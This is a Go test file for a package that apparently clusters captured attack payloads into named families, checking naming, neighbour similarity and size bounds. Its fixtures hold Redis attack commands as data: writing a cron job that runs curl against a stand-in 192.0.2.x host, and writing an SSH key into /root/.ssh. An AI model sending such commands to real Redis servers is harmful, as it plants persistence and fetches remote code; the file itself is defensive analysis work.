package family

import (
	"errors"
	"fmt"
	"math/rand/v2"
	"reflect"
	"strings"
	"testing"

	"pgregory.net/rapid"

	"terroir"
	"terroir/payload/skeleton"
)

func shown(list []Piece) string {
	var b strings.Builder
	for _, p := range list {
		if p.Values == nil {
			b.WriteString(p.Text)
			continue
		}
		fmt.Fprintf(&b, "%s%d", p.Values.Slot, p.Values.Distinct)
		for _, c := range p.Values.Most {
			fmt.Fprintf(&b, "[%s×%d]", c.Value, c.Templates)
		}
	}
	return b.String()
}

func TestAFamilyIsDescribed(t *testing.T) {
	g := New()
	var list []terroir.Template
	for i, key := range []string{"a", "a", "b"} {
		list = append(list, made("redis", fmt.Sprintf("CONFIG SET dir /var/spool/cron\r\nSET %s \"* * * * * curl http://192.0.2.%d/x\"\r\n", key, i), ""))
	}
	other := made("redis", "CONFIG SET dir /root/.ssh\r\nSET a \"ssh-rsa key\"\r\n", "")
	g.Add(append(list, other, made("redis", "INFO\r\n", "")))
	d, err := g.Describe(list[2].ID)
	if err != nil {
		t.Fatal(err)
	}
	if want := "redis: CONFIG SET dir <V> | SET <V> * * * * * curl <URL>"; d.Name != want || d.Templates != 3 || len(d.Members) != 3 {
		t.Errorf("%+v, want the name %q", d, want)
	}
	if got, want := shown(d.VehiclePieces), "CONFIG SET dir <V>1[/var/spool/cron×3]\nSET <V>2[a×2][b×1] * * * * * curl <URL>3[http://192.0.2.0/x×1][http://192.0.2.1/x×1][http://192.0.2.2/x×1]"; got != want {
		t.Errorf("pieces %q, want %q", got, want)
	}
	if len(d.Tokens) != 3 || !strings.Contains(strings.Join(d.Tokens, " "), "curl") {
		t.Errorf("told by %v", d.Tokens)
	}
	if len(d.Neighbours) != 1 || d.Neighbours[0].Family != other.ID || !reflect.DeepEqual(d.Neighbours[0].Shared, []string{"CONFIG", "SET", "dir"}) ||
		d.Neighbours[0].Similarity <= 0 || d.Neighbours[0].Similarity >= .6 {
		t.Errorf("neighbours %+v", d.Neighbours)
	}
	var urls int
	for _, v := range d.Slots {
		if v.Slot == skeleton.URL {
			urls = v.Distinct
		}
	}
	if urls != 3 {
		t.Errorf("slots %+v", d.Slots)
	}
}

func TestAFormerNameLeadsToTheFamily(t *testing.T) {
	g, ids := New(), map[terroir.PayloadID]bool{}
	for i := range 20 {
		rows := g.Add([]terroir.Template{made("redis", fmt.Sprintf("AUTH p%dw\r\n", i), "")})
		ids[rows[0].Family] = true
	}
	if len(ids) < 2 {
		t.Fatal("the family never changed its name")
	}
	for id := range ids {
		if d, err := g.Describe(id); err != nil || d.Templates != 20 {
			t.Errorf("%s leads to %+v, %v", id, d, err)
		}
	}
	var e *terroir.Error
	if _, err := g.Describe(terroir.PayloadID{1}); !errors.As(err, &e) || e.Code != terroir.ENOTFOUND {
		t.Errorf("an unknown family: %v", err)
	}
}

// TestDescriptionsDependOnNothingElse: the order of arrival changes none, and their sizes are bounded.
func TestDescriptionsDependOnNothingElse(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		list := someTemplates(t)
		a, b := New(), New()
		a.Add(list)
		for _, x := range rapid.Permutation(list).Draw(t, "order") {
			b.Add([]terroir.Template{x})
		}
		for _, x := range list {
			one, err := a.Describe(x.ID)
			other, err2 := b.Describe(x.ID)
			if err != nil || err2 != nil || !reflect.DeepEqual(one, other) {
				t.Fatalf("\n%+v, %v\n%+v, %v", one, err, other, err2)
			}
		}
	})
}

func TestADescriptionIsBounded(t *testing.T) {
	g := New()
	r := rand.New(rand.NewPCG(1, 1))
	var list []terroir.Template
	for range 3000 {
		list = append(list, made("redis", fmt.Sprintf("SET k%d \"curl http://192.0.2.1/%x\"\r\n", r.IntN(1000), r.Uint64()), ""))
	}
	g.Add(list)
	d, err := g.Describe(list[0].ID)
	if err != nil || d.Templates <= maxRead || len(d.Members) != maxMembers {
		t.Fatalf("%d templates, %d members, %v", d.Templates, len(d.Members), err)
	}
	for _, p := range d.VehiclePieces {
		if p.Values != nil && (len(p.Values.Most) > maxValues || p.Values.Distinct > maxRead) {
			t.Errorf("%d of %d values", len(p.Values.Most), p.Values.Distinct)
		}
	}
}
